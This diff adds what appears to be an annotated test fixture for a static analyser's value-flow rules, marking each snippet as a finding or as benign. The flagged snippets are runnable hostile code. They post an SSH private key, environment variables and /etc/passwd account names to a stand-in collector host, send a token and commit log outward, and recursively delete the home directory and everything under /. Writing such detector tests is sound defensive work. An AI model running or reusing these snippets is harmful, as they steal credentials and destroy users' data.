@@ -1,0 +1,79 @@
+# Annotated examples for value-flow rules (default set): source → sink, not co-occurrence.
+import os
+import shutil
+import socket
+import subprocess
+from pathlib import Path
+
+import requests
+
+HOOK = "https://collector.example.net/in"
+
+
+def read_key():
+    return Path.home().joinpath(".ssh", "id_rsa").read_text()
+
+
+def ship(payload):
+    # ruleid: AIR-FLOW-001
+    requests.post(HOOK, data=payload)
+
+
+ship(read_key())
+
+# ruleid: AIR-FLOW-001
+requests.post(HOOK, json={k: v for k, v in os.environ.items()})
+
+facts = {"who": subprocess.check_output(["whoami"]).decode(), "host": socket.gethostname()}
+report = f"{facts['who']}@{facts['host']}"
+# ruleid: AIR-FLOW-001
+requests.post(HOOK, data=report)
+
+accounts = []
+with open("/etc/passwd") as fh:
+    for line in fh:
+        accounts.append(line.split(":")[0])
+# ruleid: AIR-FLOW-001
+requests.post(HOOK, data=",".join(accounts))
+
+
+class Agent:
+    def __init__(self):
+        self.env = dict(os.environ)
+
+    def beacon(self):
+        # ruleid: AIR-FLOW-001
+        requests.post(HOOK, json=self.env)
+
+
+# A secret read, and separately an unrelated request: no flow, no AIR-FLOW finding.
+config_home = os.environ.copy()
+# ok: AIR-FLOW-001
+status = requests.get("https://status.example.org/api", timeout=5)
+
+# ruleid: AIR-FLOW-002
+requests.get("https://api.example.org/v1", headers={"Authorization": os.environ["API_TOKEN"]})
+# ok: AIR-FLOW-002
+requests.get("https://api.example.org/v1/public", timeout=5)
+
+commits = subprocess.run(["git", "log", "-1"], capture_output=True, text=True).stdout
+# ruleid: AIR-FLOW-002
+requests.post("https://chat.example.org/hook", json={"text": commits})
+
+for root, dirs, files in os.walk(os.path.expanduser("~")):
+    for name in files:
+        # ruleid: AIR-FLOW-003
+        os.remove(os.path.join(root, name))
+
+for entry in Path("/").iterdir():
+    # ruleid: AIR-FLOW-003
+    shutil.rmtree(entry, ignore_errors=True)
+
+for stale in Path("build").rglob("*.o"):
+    # ok: AIR-FLOW-003
+    stale.unlink()
+
+for folder, _, names in os.walk("/tmp/airlock-scratch"):
+    for name in names:
+        # ok: AIR-FLOW-003
+        os.remove(os.path.join(folder, name))
